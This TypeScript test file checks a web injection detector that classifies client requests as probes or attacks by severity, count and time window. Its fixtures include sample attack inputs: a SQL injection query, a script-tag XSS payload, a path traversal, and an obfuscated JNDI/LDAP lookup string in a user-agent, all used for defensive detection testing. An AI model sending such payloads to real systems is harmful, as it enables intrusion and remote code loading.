import { beforeAll, describe, expect, it } from 'vitest';
import { builtinRules, loadRules } from '../../src/runtime/load-rules.ts';
import type { Rule } from '../../src/sigma/rule.ts';
import { clientTable } from '../../src/web/clients.ts';
import { injectionRules } from '../../src/web/inject-match.ts';
import { attackRule, injectionDefaults, injectionSignal, probeRule } from '../../src/web/inject.ts';
import { offenceKey, type Offence } from '../../src/web/offence.ts';
import { requestsOf, type Wanted } from '../../src/web/testing/requests.ts';

let rules: readonly Rule[];
beforeAll(async () => {
  rules = injectionRules((await loadRules([builtinRules])).rules);
});

const start = Date.parse('2026-11-21T10:00:00Z');
const minute = 60_000;
const sql = 'id=1%27%20union%20select%201,2--';
const script = 'q=%3Cscript%3Ealert(1)%3C/script%3E';

/** What is told in the end, of each offence the last. */
function run(batches: readonly (readonly Wanted[])[]): { offences: readonly Offence[]; late: number } {
  const clients = clientTable({ capacity: 1_000, proxies: [] });
  const signal = injectionSignal(rules, clients);
  const told = new Map<string, Offence>();
  let now = Number.NEGATIVE_INFINITY;
  for (const rows of batches) {
    const requests = requestsOf(rows);
    signal.take(requests, clients.idsOf(requests));
    for (const { time = 0 } of rows) now = Math.max(now, time);
    signal.tick(now);
    for (const offence of signal.offences()) told.set(offenceKey(offence), offence);
  }
  const offences = [...told.values()].sort((a, b) => (offenceKey(a) < offenceKey(b) ? -1 : 1));
  return { offences, late: signal.counters().late };
}

const request = (query: string, after = 0, client = '203.0.113.7'): Wanted => ({
  client,
  path: '/item',
  query,
  time: start + after,
  agent: 'Mozilla/5.0',
});

describe('Injection', () => {
  it('tells a single hit as a probe of level medium, with the request as evidence', () => {
    const { offences } = run([[request('color=red'), request(sql)]]);
    expect(offences).toMatchObject([
      {
        rule: probeRule,
        subject: { type: 'client', value: '203.0.113.7' },
        count: 1,
        severity: 'medium',
        start,
      },
    ]);
    expect(offences[0]?.evidence).toMatchObject([{ target: `/item?${sql}`, position: 1 }]);
    expect(offences[0]?.explanation).toContain('203.0.113.7 sent one request');
  });

  it('tells two kinds of attack as an attack', () => {
    const { offences } = run([[request(sql), request(script, minute)]]);
    expect(offences.map(({ rule, severity, count }) => [rule, severity, count])).toEqual([
      [attackRule, 'high', 2],
      [probeRule, 'medium', 2],
    ]);
  });

  it('tells the same kind several times as an attack', () => {
    const rows = Array.from({ length: injectionDefaults.threshold }, (_, i) => request(sql, i * 1000));
    expect(run([rows.slice(1)]).offences.map(({ rule }) => rule)).toEqual([probeRule]);
    expect(run([rows]).offences.map(({ rule }) => rule)).toEqual([attackRule, probeRule]);
  });

  it('tells one lookup through JNDI as an attack, whatever column it is in', () => {
    const { offences } = run([[{ ...request('a=b'), agent: '${${lower:j}ndi:ldap://203.0.113.9/a}' }]]);
    expect(offences).toMatchObject([
      { rule: attackRule, severity: 'high', threshold: 1, count: 1 },
      { rule: probeRule },
    ]);
  });

  it('does not add up clients, or hits that lie far apart', () => {
    const apart = [
      request(sql),
      request(script, 0, '203.0.113.8'),
      request(script, injectionDefaults.window * 3),
    ];
    expect(run([apart]).offences.map(({ rule }) => rule)).toEqual([probeRule, probeRule, probeRule]);
  });

  it('leaves rules of level low out of attacks', () => {
    const rows = Array.from({ length: 20 }, (_, i) => request('f=../x', i));
    expect(run([rows]).offences).toMatchObject([{ rule: probeRule, severity: 'low', count: 20 }]);
  });

  it('tells the same of shuffled batches as of ordered ones', () => {
    const rows = Array.from({ length: 40 }, (_, i) => request(i % 3 === 0 ? sql : script, i * minute));
    const shuffled = rows.toSorted(
      (a, b) => ((((a.time ?? 0) / minute) * 7) % 40) - ((((b.time ?? 0) / minute) * 7) % 40),
    );
    const plain = ({ offences }: ReturnType<typeof run>) =>
      offences.map((offence) => ({ ...offence, evidence: offence.evidence.map(({ time }) => time) }));
    const cut = (all: readonly Wanted[]) => [all.slice(0, 11), all.slice(11, 25), all.slice(25)];
    expect(plain(run(cut(shuffled)))).toEqual(plain(run(cut(rows))));
    expect(run(cut(shuffled)).late).toBe(0);
  });

  it('counts what comes too late', () => {
    const late = run([[request(sql, injectionDefaults.window * 4)], [request(sql)]]);
    expect(late.late).toBe(1);
    expect(late.offences).toHaveLength(1);
  });

  it('learns no more of a client than it needs', () => {
    const rows = Array.from({ length: 500 }, (_, i) => request(sql, i));
    const { offences } = run([rows]);
    expect(offences[0]).toMatchObject({ rule: attackRule, count: 200 });
    expect(offences[0]?.explanation).toContain('at least 200 requests');
  });
});
